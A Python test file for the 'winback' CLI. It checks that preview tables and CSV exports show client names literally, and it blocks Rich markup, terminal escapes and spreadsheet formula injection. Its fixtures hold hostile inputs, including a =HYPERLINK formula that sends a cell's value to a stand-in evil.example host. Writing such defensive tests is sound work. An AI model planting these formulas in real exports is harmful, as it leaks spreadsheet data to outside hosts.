"""Values from data printed as they are: never read as Rich markup in a table,
never read as a formula by a spreadsheet that opens winback's CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert, select, update

from tests.conftest import run_cli, write_config
from tests.integration.test_preview import CAMPAIGN
from tests.integration.test_selection_reference import AS_OF, NOW, TZ, load, make_data
from tests.reference_selection import reference
from winback.config import load_config
from winback.models import Client, Suppression, to_epoch
from winback.output import safe_cell
from winback.timeutil import now_utc

# Each would break or bend the output if read as markup or as a formula.
NAMES = (
    "[/bold] x",
    "[link=https://evil.example]Click[/link]",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "[red]:thumbs_up: loud",
    "+7 916 phone-like",
    "-2+3",
    "@SUM(A1)",
    "plain name",
    "esc\x1b[2J\u202eevil",  # a terminal escape, a bidi override
)
SHOWN = {"esc\x1b[2J\u202eevil": "esc\\x1b[2J\\u202eevil"}  # a table shows them escaped
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


WIDE = CAMPAIGN.replace("max_per_run = 22", "max_per_run = 500")  # every lost client taken


@pytest.fixture
def hostile(engine: Engine, db_url: str, tmp_path: Path) -> Path:
    """The preview data set, the clients a run takes renamed to NAMES in turn."""
    data = make_data(5)
    load(engine, data)
    cfg = write_config(tmp_path, db_url, WIDE)
    ref = {"as_of": to_epoch(AS_OF), "now": to_epoch(NOW), "tz": TZ}
    _, taken = reference(data, load_config(cfg).campaign("c"), **ref)
    with engine.begin() as conn:
        for i, row in enumerate(taken):
            conn.execute(
                update(Client)
                .where(Client.external_id == row["client"])
                .values(name=NAMES[i % len(NAMES)])
            )
    return cfg


def preview(cfg: Path, *args: str) -> str:
    done = run_cli("--config", str(cfg), "preview", "c", "--as-of", AS_OF.isoformat(), *args)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_preview_table_prints_names_as_they_are(hostile: Path) -> None:
    rows = json.loads(preview(hostile, "--format", "json"))
    assert {r["name"] for r in rows} == set(NAMES)  # every hostile name is taken
    table = preview(hostile, "--limit", "100")
    for name in NAMES:
        assert SHOWN.get(name, name) in table, name
    assert "\x1b" not in table and "\u202e" not in table
    assert "👍" not in table  # no emoji code read either
    one = preview(hostile, "--client", rows[0]["client"])
    assert rows[0]["name"] in one
    excluded = preview(hostile, "--excluded", "--limit", "100")
    assert "lost, but excluded" in excluded


def _formula_safe(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def test_preview_csv_writes_formulas_as_text_and_numbers_as_numbers(hostile: Path) -> None:
    want = json.loads(preview(hostile, "--format", "json"))
    got = list(csv.DictReader(io.StringIO(preview(hostile, "--format", "csv"))))
    assert len(got) == len(want) > len(NAMES)
    for row, ref in zip(got, want, strict=True):
        assert row["name"] == _formula_safe(ref["name"])
        assert row["client"] == ref["client"]
        assert (row["rank"], row["revenue"], row["orders"]) == (
            str(ref["rank"]),
            ref["revenue"],
            str(ref["orders"]),
        )
    assert {r["name"] for r in got} >= {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}


def _suppress_rows(engine: Engine) -> None:
    with engine.begin() as conn:
        conn.execute(insert(Client).values(external_id="[/bold]=C-1", name="x"))
        cid = conn.execute(select(Client.id).where(Client.external_id == "[/bold]=C-1")).scalar()
        now = now_utc()
        rows = [
            ("telegram", cid, None, "[/red]"),
            ("email", None, "a@b.example", "[link=https://evil.example]Click[/link]"),
            ("sms", None, "+79161234567", "=1+1"),
        ]
        for channel, client_id, address, reason in rows:
            conn.execute(
                insert(Suppression).values(
                    channel=channel,
                    client_id=client_id,
                    address=address,
                    kind="suppression",
                    reason=reason,
                    source="cli",
                    created_at=now,
                )
            )


def test_suppress_list_prints_data_as_it_is(engine: Engine, db_url: str, tmp_path: Path) -> None:
    _suppress_rows(engine)
    cfg = write_config(tmp_path, db_url)
    env = {"COLUMNS": "250"}  # one line per row, so each value is on one line
    table = run_cli("--config", str(cfg), "suppress", "list", env=env)
    assert table.returncode == 0, table.stderr
    for value in ("[/bold]=C-1", "[/red]", "[link=https://evil.example]Click[/link]", "=1+1"):
        assert value in table.stdout, value
    listed = run_cli("--config", str(cfg), "suppress", "list", "--format", "csv")
    assert listed.returncode == 0, listed.stderr
    rows = {r["channel"]: r for r in csv.DictReader(io.StringIO(listed.stdout))}
    assert rows["telegram"]["client"] == "[/bold]=C-1"  # "[" starts no formula
    assert rows["sms"]["address"] == "'+79161234567"  # a phone is text, not a number
    assert rows["sms"]["reason"] == "'=1+1"
    assert rows["email"]["reason"] == "[link=https://evil.example]Click[/link]"


def test_the_rejects_file_stays_a_copy_of_the_input(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    cfg = write_config(tmp_path, db_url)
    source = tmp_path / "clients.csv"
    bad = '=HYPERLINK("http://evil.example/","x")'
    source.write_text(
        f'external_id,name,email\nC-1,ok,a@b.example\n"-C2","{bad.replace(chr(34), 2 * chr(34))}",'
        "not-an-email\n",
        encoding="utf-8",
    )
    done = run_cli("--config", str(cfg), "import", "clients", str(source), "--skip-invalid")
    assert done.returncode == 0, done.stderr
    rejects = next(tmp_path.glob("clients*.rejects.csv"))
    row = next(csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    assert (row["external_id"], row["name"], row["email"]) == ("-C2", bad, "not-an-email")


def test_safe_cell_prefixes_formula_starts_only() -> None:
    for text in ("=1+1", "+7 916", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    for other in ("a=b", "", "[/bold]", " =1", -12.5, 3, None):
        assert safe_cell(other) == other
